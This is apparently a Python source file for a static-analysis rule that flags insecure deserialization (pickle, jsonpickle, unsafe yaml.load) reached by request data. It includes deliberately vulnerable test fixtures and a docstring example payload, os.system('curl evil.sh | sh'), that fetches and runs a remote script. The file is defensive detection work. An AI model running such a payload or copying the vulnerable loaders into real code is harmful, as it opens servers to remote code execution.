"""AG508 insecure-deserialization."""

from __future__ import annotations

from collections.abc import Iterator

from archguard.core.findings import Finding, Location
from archguard.core.levels import Category, Confidence, Severity
from archguard.core.rule_meta import Invalid, RuleMeta, Valid
from archguard.graph.project import Project
from archguard.rules.injection._taint import TaintPath, TaintRule, short
from archguard.taint.analysis import TaintAnalysis

_FIX = (
    "accept JSON and validate it with a schema (or yaml.safe_load); if Python objects must "
    "travel, sign them (itsdangerous) and verify before loading"
)
_CODEC = """
    import base64
    import pickle


    def decode_cart(blob):
        return pickle.loads(base64.b64decode(blob))
"""


class InsecureDeserialization(TaintRule):
    """
    ## What it does
    Finds deserializers that can construct arbitrary objects, and so run code:
    `pickle` / `cPickle` / `dill` / `marshal` loads, `shelve.open`, `jsonpickle.decode`,
    `pandas.read_pickle`, and `yaml.load` / `load_all` without a safe loader. When
    request data (a body, a parameter, a cookie, an uploaded file's content) reaches
    one, through variables, helpers and modules, the finding has high confidence and
    its code flow shows the way. Elsewhere (a file, a cache, a queue message) it has
    medium confidence, because whoever can write there can still run code in the app.

    ## Why is this bad?
    Unpickling calls whatever callable the data names, with whatever arguments:
    `os.system("curl evil.sh | sh")` is a ten-byte payload. A request body,
    a cookie, a Redis key or a message queue that an attacker can reach becomes
    remote code execution.

    ## Example
    ```python
    @app.post("/import")
    def import_cart():
        cart = pickle.loads(request.data)
        return save_cart(cart)
    ```

    ## Use instead
    ```python
    @app.post("/import")
    def import_cart():
        cart = CartSchema.model_validate_json(request.data)
        return save_cart(cart)
    ```
    For YAML use `yaml.safe_load`. If Python objects really must travel, sign
    them (`itsdangerous`) and verify before loading.

    ## References
    - [Python docs: pickle security warning](https://docs.python.org/3/library/pickle.html)
    - [OWASP: Deserialization Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html)
    - [PyYAML: yaml.load(input) deprecation](https://github.com/yaml/pyyaml/wiki/PyYAML-yaml.load(input)-Deprecation)
    - [CWE-502](https://cwe.mitre.org/data/definitions/502.html)
    """

    meta = RuleMeta(
        id="AG508",
        name="insecure-deserialization",
        category=Category.INSECURE_DESERIALIZATION,
        severity=Severity.ERROR,
        confidence=Confidence.HIGH,
        summary="pickle, marshal, shelve, dill, jsonpickle or unsafe yaml.load on data that may come from outside.",
        cwe=(502,),
        tags=frozenset({"security", "deserialization"}),
        security_severity=9.8,
    )
    SINKS = ("deserialize",)

    VALID = (
        Valid(
            """
            import json

            import yaml
            from flask import Flask, request

            app = Flask(__name__)


            @app.post("/cart/import")
            def import_cart():
                cart = json.loads(request.data)
                config = yaml.safe_load(request.form["config"])
                rules = yaml.load(request.form["rules"], Loader=yaml.SafeLoader)
                return {"items": len(cart), "config": config, "rules": rules}
            """,
            label="JSON and safe YAML loaders",
        ),
        Valid(
            """
            import pickle


            def export(report):
                return pickle.dumps(report)
            """,
            label="serialising is not the danger",
        ),
    )
    INVALID = (
        Invalid(
            files={
                "shop/codec.py": _CODEC,
                "shop/views.py": """
                    from flask import Blueprint, request

                    from shop.codec import decode_cart

                    bp = Blueprint("cart", __name__)


                    @bp.post("/cart/restore")
                    def restore():
                        cart = decode_cart(request.cookies.get("cart", ""))
                        return {"items": len(cart)}
                """,
            },
            path="shop/codec.py",
            line=6,
            message="request.cookies",
            label="a cookie reaches pickle through a helper module",
        ),
        Invalid(
            """
            import jsonpickle
            from fastapi import APIRouter, Request

            router = APIRouter()


            @router.post("/jobs")
            async def submit_job(req: Request):
                raw = await req.body()
                job = jsonpickle.decode(raw)
                return {"id": job.id}
            """,
            line=10,
            message="req.body()",
        ),
        Invalid(
            """
            import pickle


            def load_model(path):
                with open(path, "rb") as fh:
                    return pickle.load(fh)
            """,
            line=6,
            message="can run code chosen by whoever wrote the data",
            label="no request in sight: medium confidence",
        ),
        Invalid(
            """
            import yaml


            def read_settings(text):
                return yaml.load(text, Loader=yaml.Loader)
            """,
            line=5,
            message="yaml.load",
        ),
    )

    def describe(self, path: TaintPath) -> str:
        sink = path.reach.sink
        return (
            f"Request data ({path.origin.label}) is deserialized by {sink.label} in "
            f"{short(sink.function)}(), a format that can run code: anyone who can send that "
            "request can run commands on the server. Accept JSON and validate it with a "
            "schema."
        )

    def fix(self, path: TaintPath) -> str:
        return _FIX

    def shapes(
        self, project: Project, analysis: TaintAnalysis, paths: list[TaintPath]
    ) -> Iterator[Finding]:
        """Every such deserializer, whatever it reads: the data's writer can run code."""
        taken = {(p.anchor.path, p.anchor.line) for p in paths}
        for function, use in analysis.sink_uses("deserialize"):
            if (function.path, use.line) in taken or use.note == "verified":
                continue  # a function that checks the data's signature first loads its own
            taken.add((function.path, use.line))
            yield self.report(
                Location(function.path, use.line, use.column, use.line, use.column),
                f"{use.callee} can run code chosen by whoever wrote the data it reads "
                f"(in {short(function.qualified)}()). Use JSON (or yaml.safe_load), or sign the "
                "data and verify it before loading.",
                key=f"{function.qualified}|{use.callee}",
                severity=Severity.WARNING,
                confidence=Confidence.MEDIUM,
                fix=_FIX,
            )
